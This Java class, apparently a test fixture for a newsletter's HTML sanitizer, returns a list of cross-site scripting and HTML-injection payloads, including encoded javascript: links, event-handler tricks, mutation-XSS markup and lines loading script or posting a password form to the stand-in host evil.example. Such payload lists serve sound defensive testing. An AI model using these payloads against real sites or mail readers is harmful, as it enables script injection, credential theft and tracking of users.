package org.samizdat.newsletter;

import java.util.stream.Stream;

/** Html that has done something in some browser or mail program. */
final class Attacks {

  private Attacks() {}

  static Stream<String> all() {
    return Stream.of(
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<<script>alert(1);//<</script>",
        "<script\u0000>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<img/src=`x`/onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
        "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<math href='javascript:alert(1)'>x</math>",
        "<a href='javascript:alert(1)'>x</a>",
        "<a href=' &#14; javascript:alert(1)'>x</a>",
        "<a href='jav&#x09;ascript:alert(1)'>x</a>",
        "<a href='jav\nascript:alert(1)'>x</a>",
        "<a href='JaVaScRiPt:alert(1)'>x</a>",
        "<a href='javascript&colon;alert(1)'>x</a>",
        "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
        "<a href='vbscript:msgbox(1)'>x</a>",
        "<a href='//javascript:alert(1)'>x</a>",
        "<a href='https://ok.example' onmouseover=alert(1) style='x:expression(1)'>x</a>",
        "<a href='https://ok.example\" onclick=\"alert(1)'>x</a>",
        "<a href='https://ok.example/<script>alert(1)</script>'>x</a>",
        "<iframe src='javascript:alert(1)'></iframe>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<object data='data:text/html,x'></object><embed src=x>",
        "<base href='https://evil.example/'><a href='/x'>x</a>",
        "<meta http-equiv=refresh content='0;url=https://evil.example'>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<style>@import '//evil.example/x.css'; *{background:url(javascript:alert(1))}</style>",
        "<p style='background:url(https://evil.example/seen)'>x</p>",
        "<form action=https://evil.example><input name=password><button>go</button></form>",
        "<textarea><script>alert(1)</script></textarea>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
        "<title><img src=x onerror=alert(1)></title>",
        "<xmp><img src=x onerror=alert(1)></xmp>",
        "<template><script>alert(1)</script></template>",
        "<select><style></select><img src=x onerror=alert(1)></style>",
        "<!--><img src=x onerror=alert(1)>-->",
        "<![CDATA[<img src=x onerror=alert(1)>]]>",
        "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
        "<details open ontoggle=alert(1)>x</details>",
        "<video><source onerror=alert(1)></video>",
        "<body onload=alert(1)>",
        "<b id=location name=cookie class=x>x</b>",
        "<p><a href=https://ok.example><a href=javascript:alert(1)>x</a></a></p>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "\"><script>alert(1)</script>",
        "'-alert(1)-'",
        "${7*7}#{7*7}{{7*7}}@if(true)",
        "<table background=javascript:alert(1)><td background=x>x</table>",
        "<img src='https://evil.example/pixel.gif?reader=17' width=1 height=1>",
        "<bgsound src=javascript:alert(1)><marquee onstart=alert(1)>x</marquee>",
        "<a href='mailto:x@example.org?bcc=y@example.org'>x</a><a href='ftp://x.example'>x</a>");
  }
}
